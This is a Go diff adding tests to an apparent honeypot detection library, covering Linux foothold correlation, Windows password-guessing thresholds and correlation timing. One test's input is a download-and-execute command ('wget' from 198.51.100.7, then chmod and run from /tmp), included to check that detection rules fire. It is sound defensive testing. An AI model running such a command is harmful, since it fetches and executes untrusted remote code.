@@ -6,6 +6,7 @@ import (
 	"net/netip"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -226,5 +227,76 @@ func TestTags(t *testing.T) {
 		if a.Category != c.category || tactic != c.tactic {
 			t.Errorf("%v: category %s, tactic %q; want %s, %q", c.tags, a.Category, tactic, c.category, c.tactic)
 		}
+	}
+}
+
+// ids are the rules alerts name, each once, in order.
+func ids(alerts []honeyguide.Alert) string {
+	var out []string
+	for _, a := range alerts {
+		if id := strings.TrimPrefix(a.RuleID, "sigma:"); !slices.Contains(out, id) {
+			out = append(out, id)
+		}
+	}
+	return strings.Join(out, " ")
+}
+
+// The shipped correlation of three steps, in one line and in several.
+func TestFoothold(t *testing.T) {
+	for name, lines := range map[string][]string{
+		"one line": {"cd /tmp; wget http://198.51.100.7/x; chmod +x /tmp/x; /tmp/x"},
+		"several":  {"cd /tmp; wget http://198.51.100.7/x", "id", "chmod 777 x", "/tmp/x"},
+	} {
+		var events []honeyguide.Event
+		for i, l := range lines {
+			events = append(events, typed(i, l))
+		}
+		if got := ids(feed(t, detectorOf(t, nil), events...)); !strings.Contains(got, "linux_foothold") || !strings.Contains(got, "linux_run_from_stage") {
+			t.Errorf("%s: %s", name, got)
+		}
+	}
+	other := typed(3, "/tmp/x")
+	other.Src.Addr = netip.MustParseAddrPort("198.51.100.8:1")
+	if got := ids(feed(t, detectorOf(t, nil), typed(1, "cd /tmp; wget http://198.51.100.7/x"), typed(2, "chmod 777 x"), other)); strings.Contains(got, "linux_foothold") {
+		t.Errorf("steps of two sources are one: %s", got)
+	}
+}
+
+// windowsEvent is a record of the security log as its mapper hands it on.
+func windowsEvent(n, id int, fields map[string]string) honeyguide.Event {
+	at := noon.Add(time.Duration(n) * time.Second)
+	e := honeyguide.Event{ID: fmt.Sprint("win-", n), Time: at, Observed: at, Activity: "record", Sensor: "windows"}
+	e.Set(honeyguide.AttrProduct, "windows")
+	e.Set(honeyguide.AttrLogProduct, "windows")
+	e.Set("unmapped.Channel", "Security")
+	e.Set("unmapped.EventID", int64(id))
+	for k, v := range fields {
+		e.Set("unmapped."+k, v)
+	}
+	return e
+}
+
+func TestWindowsGuessing(t *testing.T) {
+	var events []honeyguide.Event
+	for i := range 25 {
+		events = append(events, windowsEvent(i, 4625, map[string]string{"IpAddress": "198.51.100.7"}))
+	}
+	if got := ids(feed(t, detectorOf(t, nil), events[:19]...)); got != "" {
+		t.Errorf("19 failures: %s", got)
+	}
+	if got := ids(feed(t, detectorOf(t, nil), events...)); got != "windows_password_guessing" {
+		t.Errorf("25 failures: %q", got)
+	}
+}
+
+// What happens too seldom is told at the end of the span, about who was counted.
+func TestCorrelationAtEndOfSpan(t *testing.T) {
+	few := strings.Replace(guessing, "condition: {gte: 3}", "condition: {lt: 3}", 1)
+	book, _ := bookOf(t, few)
+	stranger := typed(1000, "id")
+	stranger.Src.Addr = netip.MustParseAddrPort("198.51.100.99:1")
+	alerts := feed(t, detectorOf(t, book), login(1), login(2), stranger)
+	if len(alerts) != 1 || alerts[0].Src.Addr.Addr().String() != "198.51.100.7" || alerts[0].Count != 2 {
+		t.Errorf("%+v", alerts)
 	}
 }
